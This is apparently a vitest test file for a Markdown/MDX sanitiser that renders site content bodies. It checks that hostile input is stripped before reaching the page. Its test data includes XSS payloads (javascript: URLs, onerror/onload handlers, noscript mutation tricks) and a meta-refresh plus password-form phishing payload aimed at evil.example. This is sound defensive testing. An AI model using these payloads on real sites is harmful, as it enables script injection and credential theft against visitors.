/**
 * The boundary between content and page: bodies are parsed, never compiled; the sanitiser
 * keeps only the allowlist; the check's explanation agrees with what the sanitiser does;
 * and the site's components come through with their props.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { Root } from 'hast';
import { sanitize } from 'hast-util-sanitize';
import { toHtml } from 'hast-util-to-html';
import { describe, expect, it } from 'vitest';
import { BODY_SCHEMA, LOCAL_IMAGE } from '../../src/markdown/allowlist.ts';
import { bodyTree, type BodyKind } from '../../src/markdown/body-tree.ts';
import { explainHtml } from '../../src/markdown/explain-html.ts';
import { renderBody, type BodySegment } from '../../src/markdown/render-body.ts';
import { activeContentIn } from '../helpers/active-content.ts';

const HOSTILE = path.resolve(import.meta.dirname, '../fixtures/content-hostile/updates');
const options = { imageUrl: (src: string) => `/ztzl/dbjj/${src}` };

/** A rendered body as one HTML string, components written as markers, for assertions on what reaches the page. */
function html(segments: readonly BodySegment[]): string {
	return segments
		.map((segment) =>
			'html' in segment ? segment.html : `[${segment.component} ${JSON.stringify(segment.props)}]${html(segment.children)}[/${segment.component}]`,
		)
		.join('');
}

function treeOf(text: string, kind: BodyKind) {
	const tree = bodyTree(text, kind);
	if ('error' in tree) throw new Error(tree.error.message);
	return tree;
}

/** The body of a fixture file, without its front matter. */
function fixtureBody(name: string): string {
	return readFileSync(path.join(HOSTILE, name), 'utf8').replace(/^---\n[\s\S]*?\n---\n/, '');
}

/** Snippets a sanitiser must get right, harmless and hostile, in Markdown. */
const SNIPPETS = [
	'普通段落，**加粗**和[链接](https://www.suining.gov.cn/)。',
	'| 年份 | 数值 |\n|:--|--:|\n| 2025 | 39.5 |',
	'<abbr title="国内生产总值">GDP</abbr>和<sup>1</sup>',
	'<details><summary>展开</summary>内容</details>',
	'[邮件](mailto:dbjj@example.gov.cn) [电话](tel:0825-1234567) [相对](../../initiatives/fenghuang-xincheng/) [锚点](#进展)',
	'![本地](images/qiongjiang-2026.jpg)',
	'[点击](javascript:alert(1))',
	'[点击](JaVaScRiPt:alert(1))',
	'[点击](vbscript:msgbox(1))',
	'<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
	'<svg onload="alert(1)"><circle r="1"/></svg>',
	'<math><mtext><script>alert(1)</script></mtext></math>',
	'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
	'<base href="https://evil.example/">',
	'<form action="https://evil.example/"><input name="x"></form>',
	'<img src="https://tracker.example/p.gif">',
	'<img src="//tracker.example/p.gif">',
	'<img src="images/a.png" srcset="https://evil.example/x.png 2x">',
	'<p style="color:red">x</p>',
	'<p class="sample-notice">伪造的提示</p>',
	'<p id="main">抢占页面的 id</p>',
	'<a href="https://example.com/" target="_blank" rel="opener">x</a>',
	'<IMG SRC=x ONERROR=alert(1)>',
	'<div><p>段落</p></div>',
	'<table><tr><td background="https://evil.example/x.png">x</td></tr></table>',
	'<video src="https://evil.example/v.mp4"></video>',
	'<link rel="prefetch" href="https://evil.example/">',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
	'<template><script>alert(1)</script></template>',
	'<a href="java&#x0A;script:alert(1)">x</a>',
	'<!-- 编辑备注：不会发布 -->',
	'文字<br>换行',
];

describe('the allowlist', () => {
	it.each(SNIPPETS)('is explained exactly when the sanitiser changes anything: %s', (snippet) => {
		const { hast } = treeOf(snippet, 'md');
		const withoutComments = JSON.parse(JSON.stringify(hast, (_key, value) => (value?.type === 'comment' ? undefined : value))) as Root;
		withoutComments.children = withoutComments.children.filter(Boolean);
		const sanitised = sanitize(hast, BODY_SCHEMA);
		const imagesKept = [...toHtml(sanitised).matchAll(/<img [^>]*src="([^"]*)"/g)].every((match) => LOCAL_IMAGE.test(match[1] ?? ''));
		const changed = toHtml(withoutComments) !== toHtml(sanitised) || !imagesKept;
		expect(explainHtml(hast).length > 0, toHtml(sanitised)).toBe(changed);
	});

	it.each(SNIPPETS)('leaves nothing active or third-party on the page: %s', (snippet) => {
		expect(activeContentIn(`<!doctype html><html><body>${html(renderBody(snippet, 'md', options))}</body></html>`, '/ztzl/dbjj/')).toEqual([]);
	});

	it('keeps prose, tables and links as written, with alignment as a class', () => {
		expect(html(renderBody(SNIPPETS[1] ?? '', 'md', options))).toContain('<th class="align-left">年份</th>');
		expect(html(renderBody(SNIPPETS[4] ?? '', 'md', options))).toBe(
			'<p><a href="mailto:dbjj@example.gov.cn">邮件</a> <a href="tel:0825-1234567">电话</a> <a href="../../initiatives/fenghuang-xincheng/">相对</a> <a href="#%E8%BF%9B%E5%B1%95">锚点</a></p>',
		);
	});

	it('serves the site’s own images from the base path, and drops every other image', () => {
		expect(html(renderBody('![琼江](images/qiongjiang-2026.jpg) ![外部](https://tracker.example/p.gif)', 'md', options))).toBe(
			'<p><img src="/ztzl/dbjj/images/qiongjiang-2026.jpg" alt="琼江" loading="lazy" decoding="async"> </p>',
		);
	});

	it('gives headings ids from their text, never one of the page’s own', () => {
		expect(html(renderBody('## 进展\n\n## 进展\n\n## main\n\n### 2026年', 'md', options))).toBe(
			'<h2 id="进展">进展</h2>\n<h2 id="进展-1">进展</h2>\n<h2 id="section-main">main</h2>\n<h3 id="2026年">2026年</h3>',
		);
	});
});

describe('MDX bodies', () => {
	it('are never compiled: imports, exports and expressions are reported and render as nothing', () => {
		const body = fixtureBody('mdx-reads-build-machine.mdx');
		const rendered = html(renderBody(body, 'mdx', options));
		expect(rendered).toBe('<p>本机名称：</p>\n<p>主目录：</p>');
		expect(treeOf(body, 'mdx').refusals.map((refusal) => [refusal.line, refusal.rule])).toEqual([
			[2, 'mdx-esm'],
			[5, 'mdx-expression'],
			[7, 'mdx-expression'],
			[9, 'mdx-expression'],
			[11, 'mdx-esm'],
		]);
	});

	it('render the site’s components with their props, and Callout with its content', () => {
		const body =
			'<Chart indicator="qiongjiang-shengtai-zoulang-licheng" />\n\n<Callout type="important" title="口径变化">\n2025年起按新口径统计，**不与**往年直接比较。\n</Callout>\n\n<Figure src="images/duibiao.png" alt="对标地区" caption="2+3+N" />\n';
		expect(treeOf(body, 'mdx').refusals).toEqual([]);
		expect(renderBody(body, 'mdx', options)).toEqual([
			{ component: 'Chart', props: { indicator: 'qiongjiang-shengtai-zoulang-licheng' }, children: [] },
			{ html: '\n' },
			{
				component: 'Callout',
				props: { type: 'important', title: '口径变化' },
				children: [{ html: '<p>2025年起按新口径统计，<strong>不与</strong>往年直接比较。</p>' }],
			},
			{ html: '\n' },
			{ component: 'Figure', props: { src: 'images/duibiao.png', alt: '对标地区', caption: '2+3+N' }, children: [] },
		]);
	});

	it('give a component inside other markup its place, opened and closed around it', () => {
		const body = '> 引文\n>\n> <Callout>\n> 说明\n> </Callout>\n';
		expect(html(renderBody(body, 'mdx', options))).toBe('<blockquote>\n<p>引文</p>\n[Callout {"type":"note"}]<p>说明</p>[/Callout]\n</blockquote>');
	});

	it('hold HTML written as JSX to the same allowlist as Markdown', () => {
		const body = '<p onClick="alert(1)" style="x">文字</p>\n\n<a href="javascript:alert(1)">链接</a>\n\n<Callout><script>alert(1)</script>提示</Callout>\n';
		expect(html(renderBody(body, 'mdx', options))).toBe('<p>文字</p>\n<p><a>链接</a></p>\n[Callout {"type":"note"}]<p>提示</p>[/Callout]');
		expect(html(renderBody('文字中间 <Callout>提示</Callout> 不行。\n', 'mdx', options))).toBe('<p>文字中间  不行。</p>');
		expect(explainHtml(treeOf(body, 'mdx').hast).map((refusal) => refusal.rule)).toEqual(['unsafe-attribute', 'unsafe-attribute', 'unsafe-url', 'raw-html']);
	});

	it('drop a component that a raw element tries to forge', () => {
		expect(renderBody('<x-component-0 data-index="0">x</x-component-0>', 'md', options)).toEqual([{ html: '<p>x</p>' }]);
	});
});

describe('found in review, kept out for good', () => {
	it('never lets an attribute value the author wrote cut a tag open around a component', () => {
		// U+E000 once split the tags around a component: the rest of the body became markup (a meta refresh, a form).
		for (const attribute of ['title="&#xE000;"', 'lang="\uE000"', 'title="&#xE000;&#xE000;"']) {
			const body = `<blockquote ${attribute}>\n\n<p title="><meta http-equiv=refresh content=0;url=https://evil.example><form action=https://evil.example><input name=pw></form>">x</p>\n\n<Callout>提示</Callout>\n\n</blockquote>\n`;
			const rendered = html(renderBody(body, 'mdx', options));
			expect(activeContentIn(`<!doctype html><html><body>${rendered}</body></html>`, '/ztzl/dbjj/'), attribute).toEqual([]);
			expect(rendered).toMatch(/^<blockquote [a-z]+="[^"]*">/);
		}
	});

	it.each([
		['md', `a ${'<span>'.repeat(2000)}`],
		['md', '<div>'.repeat(3000)],
		['mdx', `${'<Callout>\n\n'.repeat(5000)}提示\n\n${'</Callout>\n\n'.repeat(5000)}`],
	] as const)('refuses nesting that would exhaust the stack (%s), instead of failing the build', (kind, body) => {
		const tree = bodyTree(body, kind);
		expect('error' in tree && tree.error.rule).toBe('nesting-depth');
		expect(renderBody(body, kind, options)).toEqual([]);
	});

	it('refuses JSX attribute names that are not HTML names', () => {
		expect(treeOf('<p children="x" __proto__="y">文字</p>\n', 'mdx').refusals.map((refusal) => refusal.message)).toEqual([
			'<p> 不允许使用属性 children，请删除（attribute children is not allowed）',
			'<p> 不允许使用属性 __proto__，请删除（attribute __proto__ is not allowed）',
		]);
	});

	it.each(['<td align="center">x</td>\n', '<tr><th>x</th></tr>\n', '<p title="x">文字</p>\n'])(
		'agrees with the sanitiser on MDX written as HTML: %s',
		(body) => {
			const { hast, refusals } = treeOf(body, 'mdx');
			expect(refusals).toEqual([]);
			expect(explainHtml(hast)).toEqual([]);
			expect(toHtml(sanitize(hast, BODY_SCHEMA))).toBe(toHtml(hast));
		},
	);
});

describe('the hostile fixtures', () => {
	it.each(readdirSync(HOSTILE))('render %s with nothing active or third-party', (name) => {
		const kind = name.endsWith('.mdx') ? 'mdx' : 'md';
		const page = `<!doctype html><html><body>${html(renderBody(fixtureBody(name), kind, options))}</body></html>`;
		expect(activeContentIn(page, '/ztzl/dbjj/')).toEqual([]);
		expect(page).not.toMatch(/alert|evil\.example|tracker\.example|process\.env|readFileSync/);
	});
});
